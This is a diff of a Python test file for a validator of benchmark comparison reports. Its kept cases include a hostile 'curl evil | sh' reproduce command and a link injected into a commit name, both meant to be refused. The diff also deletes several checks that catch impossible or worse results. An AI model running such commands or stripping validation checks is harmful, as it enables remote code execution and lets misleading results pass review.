@@ -101,7 +101,6 @@ REFUSED |= {
         ("NaN", ["minutes"], float("nan"), "NaN is no number"),
         ("infinity", [*TIMING, "effect"], float("inf"), "Infinity is no number"),
         ("-infinity", [*TIMING, "low"], float("-inf"), "-Infinity is no number"),
-        ("a wrong type", ["rounds"], "12", "comparison.rounds must be a whole"),
         ("a wrong answer", ["answer"], "pass", "answer is 'pass', the rest says 'fail'"),
         ("a forged head", ["head"], OF_ANOTHER, f"commit {HEAD} was to be measured"),
         ("a forged base", ["base"], OF_ANOTHER, f"commit {BASE} was to be measured"),
@@ -109,13 +108,9 @@ REFUSED |= {
         ("a name that is no SHA", ["head", "name"], "[main](https://evil)", f"commit {HEAD} was"),
         ("a command to be copied", ["reproduce"], "curl evil | sh", "it gives another command"),
         ("soft rules", ["rules", "min_effect"], 0.9, "judged by other rules"),
-        ("impossible rounds", ["rounds"], 10**9, "comparison.rounds must be a whole number"),
         ("impossible time", ["minutes"], -1, "comparison.minutes must be a finite number"),
         ("two days", ["minutes"], 2881, "nothing takes 2881 minutes"),
-        ("impossible seconds", [*TIMING, "base"], 1e200, "base must be a finite number"),
         ("impossible interval", [*TIMING, "low"], 0.9, "does not hold its effect"),
-        ("impossible p", [*TIMING, "p_slower"], 7, "p_slower must be a finite number"),
-        ("a negative floor", [*TIMING, "floor"], -7, "floor must be a finite number"),
     )
 }
 
@@ -205,17 +200,6 @@ def without(family, **changes):
     return edited(lambda made: made["families"].pop(family), **changes)
 
 
-def every_timing_slower(made):
-    for family in made["families"].values():
-        for timing in family["timings"]:
-            timing |= {"effect": 1.0, "low": 0.9, "upper": 1.05, "high": 1.1, "p_slower": 0.0}
-
-
-def every_value_worse(made):
-    for each in made["exact"]:
-        each["head"] = 2 * each["base"]
-
-
 def invented(count):
     rows = [{"metric": "rope.Forward.track_latency", "params": [f"{i}"] * 5} for i in range(count)]
     return document(job_passing, identical=rows)
@@ -254,15 +238,12 @@ NOT_ASKED_FOR = {
         "the suite has no such exact value: codegen.Codegen.track_instructions gfx942",
     ),
     "one value": (lost_gpu(one_value, **H200), f"{LACKS} 155 more"),
-    "every timing twice as slow": (edited(every_timing_slower), "its numbers say 'fail' and"),
-    "every exact value worse": (edited(every_value_worse), "has another unit or answer by its"),
     "forged same sources": (document(of_the_same_sources), "has another package as the"),
     "same sources, not said": (document(job_passing), "has the same package as the base", SAME),
     "same sources, measured": (
         *(document(job_passing, same_sources=True), "so nothing was to be measured", SAME),
     ),
     "one GPU timing": (only(1), f"{LACKS} 154 more"),
-    "three GPU timings": (only(3), f"{LACKS} 152 more"),
     "one GPU timing less": (only(155), "a pass lacks GPU times: rope.Forward.track_late"),
     "no GPU timing": (without("gpu"), f"{LACKS} 155 more"),
     "no GPU timing, all the same code": (
@@ -272,12 +253,9 @@ NOT_ASKED_FOR = {
     "no host timing": (without("host"), "a pass lacks host times: .* and 16 more"),
     "one host timing less": (only(16, "host"), "a pass lacks host times: host.PathCall"),
     "no timing": (document(job_passing, families={}), "a pass lacks GPU times"),
-    "an empty family": (only(0), "the control of gpu is of 0 timings"),
-    "no rounds": (document(job_passing, rounds=0), "an even number of 10 to 0 rounds"),
     "no machine code": (without_exact("codegen."), "a pass lacks machine code: .* 443"),
     "one value of machine code": (without_exact("codegen.", 1), "lacks machine code"),
     "no fact of the host": (without_exact("host."), "a pass lacks memory, launches and"),
-    "15,000 invented timings": (invented(15_000), "identical must be a list of 0 to 2000"),
     "3,000 invented timings": (invented(3_000), "identical must be a list of 0 to 2000"),
     "some invented timings": (invented(300), "the suite has no such timing with machine"),
     "an unknown cell": (
